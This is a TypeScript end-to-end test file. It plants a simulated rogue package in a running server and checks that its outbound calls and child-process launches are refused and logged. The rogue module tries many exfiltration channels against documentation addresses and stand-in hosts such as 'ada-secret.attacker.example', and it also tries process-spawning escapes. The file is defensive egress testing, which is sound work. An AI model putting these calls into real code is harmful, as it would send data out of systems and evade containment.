import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { registry } from '../../src/apps/server/registry.ts';
import { proveLive } from '../../src/capabilities/policy/proofs/prove.ts';
import { tenants } from '../support/cast.ts';
import { send } from '../support/client.ts';
import { openHouse } from '../support/house.ts';
import { serverProgram } from '../support/program.ts';

const house = openHouse();
let folder: string;
let program: Awaited<ReturnType<typeof serverProgram>>;

/** A package that was bought by somebody else: it is there before our program, and calls home when it is told to. Nobody lives at 198.51.100.x (RFC 5737). */
const rogue = `
import child, { execFile as byName } from 'node:child_process';
import cluster from 'node:cluster';
import dgram from 'node:dgram';
import dns, { lookup } from 'node:dns';
import { get } from 'node:http';
import https from 'node:https';
import http2 from 'node:http2';
import net, { connect } from 'node:net';
import tls from 'node:tls';
import { promisify } from 'node:util';
import { Worker } from 'node:worker_threads';
const told = (emitter) => new Promise((done) => emitter.once('error', (fault) => done(fault.name)).once('connect', () => done('out')));
const asked = (ask) => new Promise((done) => ask((fault) => done(fault?.name ?? 'out')));
const settled = (promise) => promise.then(() => 'out', (fault) => (fault.cause ?? fault).name);
const thrown = (call) => { try { call(); return 'out'; } catch (fault) { return fault.name; } };
const ways = {
  fetch: () => settled(fetch('https://198.51.100.1/?ada')),
  name: () => settled(fetch('http://ada-secret.attacker.example/')),
  http: () => told(get('http://198.51.100.2/')),
  https: () => told(https.get('https://198.51.100.3/')),
  http2: () => told(http2.connect('https://198.51.100.4')),
  connect: () => told(connect(443, '198.51.100.5')),
  socket: () => told(new net.Socket().connect({ host: '198.51.100.6', port: 443 })),
  tls: () => told(tls.connect({ host: '198.51.100.7', port: 443 })),
  datagram: () => thrown(() => dgram.createSocket('udp4').send('ada', 53, '198.51.100.8')),
  lookup: () => asked((done) => lookup('ada.lookup.example', done)),
  question: () => settled(dns.promises.resolveTxt('ada.question.example')),
  resolver: () => asked((done) => new dns.Resolver().resolve4('ada.resolver.example', done)),
};
// A child connects out by itself, and says that it lived.
const lives = (way) => "require('fs').writeFileSync(" + JSON.stringify(process.env.ROGUE_FOLDER + '/' + way) + ", 'out'); require('net').connect(443, '198.51.100.9')";
const node = process.execPath;
const children = {
  spawn: () => thrown(() => child.spawn(node, ['-e', lives('spawn')])),
  exec: () => thrown(() => child.exec(node + ' -e "' + lives('exec').replaceAll('"', "'") + '"')),
  promised: () => settled((async () => await promisify(child.execFile)(node, ['-e', lives('promised')]))()),
  named: () => thrown(() => byName(node, ['-e', lives('named')])),
  prototype: () => thrown(() => new child.ChildProcess().spawn({ file: node, args: [node, '-e', lives('prototype')] })),
  spawnSync: () => thrown(() => child.spawnSync(node, ['-e', lives('spawnSync')])),
  execFileSync: () => thrown(() => child.execFileSync(node, ['-e', lives('execFileSync')])),
  execSync: () => thrown(() => child.execSync('/usr/bin/env true > ' + process.env.ROGUE_FOLDER + '/execSync')),
  fork: () => thrown(() => child.fork(process.env.ROGUE_FOLDER + '/child.mjs')),
  cluster: () => thrown(() => cluster.fork()),
  thread: () => thrown(() => new Worker(lives('thread'), { eval: true })),
};
process.once('SIGUSR2', async () => {
  const ends = {};
  for (const [name, way] of Object.entries(ways)) ends[name] = await way();
  console.log('rogue ' + JSON.stringify(ends));
  const begun = {};
  for (const [name, way] of Object.entries(children)) begun[name] = await way();
  console.log('children ' + JSON.stringify(begun));
});`;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'candor-rogue-'));
  const file = join(folder, 'rogue.mjs');
  await writeFile(file, rogue);
  await writeFile(
    join(folder, 'child.mjs'),
    `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(join(folder, 'fork'))}, 'out');`,
  );
  program = await serverProgram(house, { NODE_OPTIONS: `--import ${pathToFileURL(file).href}`, ROGUE_FOLDER: folder });
}, 60_000);
afterAll(async () => {
  program.child.kill('SIGTERM');
  await rm(folder, { recursive: true });
});

const kept = async () =>
  (await house.owner.query<{ program: string; host: string }>('select program, host from installation.refused_call order by host')).rows;
const alarms = async () => (await proveLive(tenants.acme.id, registry)).find(({ assertion }) => assertion === 'S56.runtime')?.faults ?? [];

test('S56.e2e a rogue in the running server gets out by no way, and each try is kept and an alarm', async () => {
  expect(await alarms()).toEqual([]);
  program.child.kill('SIGUSR2');
  await expect.poll(() => program.said(), { timeout: 30_000 }).toContain('children {');
  const ends = JSON.parse(/rogue (\{.*\})/.exec(program.said())?.[1] ?? '{}') as Record<string, string>;
  expect(Object.keys(ends)).toHaveLength(12);
  expect(Object.entries(ends).filter(([, end]) => end !== 'OutboundRefused')).toEqual([]);

  const hosts = ['attacker.example', 'lookup.example', 'question.example', 'resolver.example'];
  const addresses = [1, 2, 3, 4, 5, 6, 7, 8].map((last) => `198.51.100.${last}`);
  const begun = JSON.parse(/children (\{.*\})/.exec(program.said())?.[1] ?? '{}') as Record<string, string>;
  expect(Object.keys(begun)).toHaveLength(11);
  expect(Object.entries(begun).filter(([, end]) => end !== 'OutboundRefused')).toEqual([]);
  const programs = ['child.mjs.program', 'env.program', 'node.program', 'worker.thread'].map((name) => name.split('.').slice(-2).join('.'));
  const all = [...addresses, ...hosts, ...programs].sort();
  await expect
    .poll(async () => (await kept()).sort((one, other) => (one.host < other.host ? -1 : 1)), { timeout: 30_000 })
    .toEqual(all.map((host) => ({ program: 'server', host })));
  // None of them ever lived: had one begun, its file would lie here.
  expect((await readdir(folder)).sort()).toEqual(['child.mjs', 'rogue.mjs']);
  expect(await alarms()).toContain('The server wanted to call attacker.example, and was refused (1 times)');
  // Neither log nor table has what a name was to carry out.
  expect(program.said()).not.toContain('ada-secret');
});

test('S56.e2e the server itself goes on: whom the operator named, the database first of all, answers it', async () => {
  const { status } = await send(program.port, tenants.acme.host, 'GET', '/readyz');
  expect([200, 503]).toContain(status);
  expect((await send(program.port, tenants.acme.host, 'GET', '/api/v1/session')).status).toBe(200);
});
